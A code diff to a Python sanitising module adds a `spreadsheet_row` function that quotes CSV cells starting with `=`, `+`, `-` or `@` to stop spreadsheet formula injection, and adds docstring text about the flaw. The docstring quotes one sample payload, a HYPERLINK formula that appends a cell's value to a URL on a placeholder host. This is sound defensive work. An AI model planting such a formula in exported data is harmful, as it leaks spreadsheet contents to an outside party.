@@ -13,6 +13,10 @@ link of the sender's choosing as part of the app's own message. Two rules, both 
 - `inert_markdown`: a stored message keeps its emphasis and tables, while HTML (other than the
   app's own `<sub>` note) and every link or image bracket become character references, which
   render as the same characters and can never open a tag or a link.
+
+CSV files go to spreadsheets, where a cell starting with `=`, `+`, `-` or `@` is a formula:
+a public user's flag comment `=HYPERLINK("http://host/?"&A1, "open")` ran in the reviewer's
+spreadsheet. `spreadsheet_row` quotes such text cells (OWASP's advice); numbers stay numbers.
 """
 
 from __future__ import annotations
@@ -20,7 +24,7 @@ from __future__ import annotations
 import re
 import unicodedata
 
-__all__ = ["inert_markdown", "plain_name"]
+__all__ = ["inert_markdown", "plain_name", "spreadsheet_row"]
 
 _LOOKALIKES = str.maketrans({"<": "‹", ">": "›", "[": "(", "]": ")", "`": "'", "\\": "/"})
 # Cc control, Cf format (bidi overrides, zero-width), Co private use, Cs surrogates, Cn
@@ -47,3 +51,22 @@ def inert_markdown(text: str) -> str:
         f"<{part}>" if i % 2 else "".join(_ACTIVE.get(c, c) for c in part)
         for i, part in enumerate(parts)
     )
+
+
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def spreadsheet_row(cells: list[object]) -> list[object]:
+    """`cells` for a CSV row: text that a spreadsheet would run as a formula starts with `'`
+    (a number written as text, such as a negative mean in HU, is left as it is)."""
+    return [f"'{c}" if _is_formula(c) else c for c in cells]
+
+
+def _is_formula(cell: object) -> bool:
+    if not isinstance(cell, str) or not cell.lstrip(" ").startswith(_FORMULA_START):
+        return False
+    try:
+        float(cell)
+    except ValueError:
+        return True
+    return False
